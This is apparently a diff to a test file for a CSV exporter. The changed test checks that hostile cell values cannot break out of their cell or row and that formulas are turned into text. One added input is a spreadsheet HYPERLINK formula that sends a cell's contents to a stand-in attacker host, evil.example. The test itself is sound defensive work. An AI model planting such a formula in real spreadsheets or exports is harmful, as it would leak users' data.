@@ -242,8 +242,23 @@ test('H19 a cell that begins with a full-width sign, which Japanese spreadsheets
   for (const value of ['＝1+1', '＋1', '－1', '＠SUM(A1)']) assert.is(cell(value), `'${value}`)
 })
 
-test('H20 no value ends its cell or its row, whatever quotes, commas and line ends it has', () => {
-  const nasty = ['"', '""', '",="x"', 'a"\r\n=1', '\r', '\n', ',', '",', '\u2028', 'a\0b', '"\n"', '\ud800']
+test('H20 H29 no value ends its cell or its row, and each formula in it is made a text', () => {
+  const nasty = [
+    '"',
+    '=HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x',
+    '=1+1',
+    '""',
+    '",="x"',
+    'a"\r\n=1',
+    '\r',
+    '\n',
+    ',',
+    '",',
+    '\u2028',
+    'a\0b',
+    '"\n"',
+    '\ud800',
+  ]
   const text = toCsv([nasty, nasty.toReversed()])
   assert.equal(
     parse(text.slice(1)).map(row => row.map(value => value.replace(/^'/, ''))),
